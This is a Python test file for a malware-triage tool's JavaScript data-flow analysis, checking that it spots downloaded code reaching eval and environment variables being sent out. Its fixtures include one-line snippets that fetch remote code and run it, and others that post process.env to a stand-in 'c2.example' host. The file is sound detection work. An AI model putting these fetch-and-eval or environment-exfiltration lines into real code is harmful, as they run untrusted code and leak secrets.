"""Data flow in JavaScript: what arrives, and what does not; and nothing breaks it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.triage.allowance import Allowance
from vedette.triage.fact import Act, Fact
from vedette.triage.facts.javascript import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample


def read(text: str) -> list[Fact]:
    return list(facts(Sample(name="a.js", data=text.encode(), kind=Kind.JAVASCRIPT), Allowance()))


def feeds(text: str) -> bool:
    """Return whether a download flows into code that is run."""
    waiting = [one for one in read(text) if one.act is Act.RUNS_CODE]
    while waiting:
        one = waiting.pop()
        if one.act is Act.DOWNLOADS:
            return True
        waiting += one.inputs
    return False


@pytest.mark.parametrize(
    "text",
    [
        "fetch('http://x.invalid').then(r => r.text()).then(t => eval(t));",
        "async function f() { const r = await fetch('http://x.invalid'); new Function(await r.text())(); }",
        "const { get: g } = require('axios'); g('http://x.invalid').then(({ data }) => (0, eval)(data));",
        "import axios from 'axios'; let c; axios.get('http://x').then(r => { c = r.data; eval(c); });",
        "class A { constructor(t) { this.t = t } go() { eval(this.t) } }\nnew A(fetch('http://x')).go();",
        "globalThis['ev' + 'al'](fetch('http://x.invalid'));",
    ],
)
def test_what_is_downloaded_arrives(text: str) -> None:
    assert feeds(text)


@pytest.mark.parametrize(
    "text",
    [
        "fetch('http://x.invalid').then(r => console.log(r)); eval('1');",
        "let t = fetch('http://x.invalid'); t = '1'; eval(t);",
        "function f(a) { return 1; } eval(f(fetch('http://x.invalid')) ? '1' : '2');",
    ],
)
def test_what_only_stands_beside_it_does_not(text: str) -> None:
    assert not feeds(text)


@given(
    st.lists(
        st.sampled_from(
            [
                "(",
                ")",
                "{",
                "}",
                "[",
                "]",
                "=>",
                ";",
                "=",
                "'",
                "`",
                "${",
                "eval",
                "require('x')",
                ".",
                "class",
                "async",
                "await",
                "x",
                ",",
                "...",
            ]
        ),
        max_size=60,
    )
)
def test_no_text_breaks_it(parts: list[str]) -> None:
    for one in read(" ".join(parts)):
        assert one.place.line >= 1  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "text",
    [
        "let r = require('https').request({host: 'c2.example'}); r.write(JSON.stringify({e: process.env}));",
        "const o = {hostname: 'c2.example'}; require('http').request(o).end(JSON.stringify(process.env));",
    ],
)
def test_a_request_keeps_its_host_and_what_an_object_holds_is_sent(text: str) -> None:
    (sent,) = [one for one in read(text) if one.act is Act.SENDS]
    assert sent.target == "c2.example"
    assert [one.act for one in sent.inputs] == [Act.READS_ENVIRONMENT]


def test_handing_the_environment_to_a_program_sends_nothing() -> None:
    text = "require('child_process').spawn('x', {env: process.env}); fetch('http://x.invalid/y');"
    assert not [one for one in read(text) if one.act is Act.SENDS]
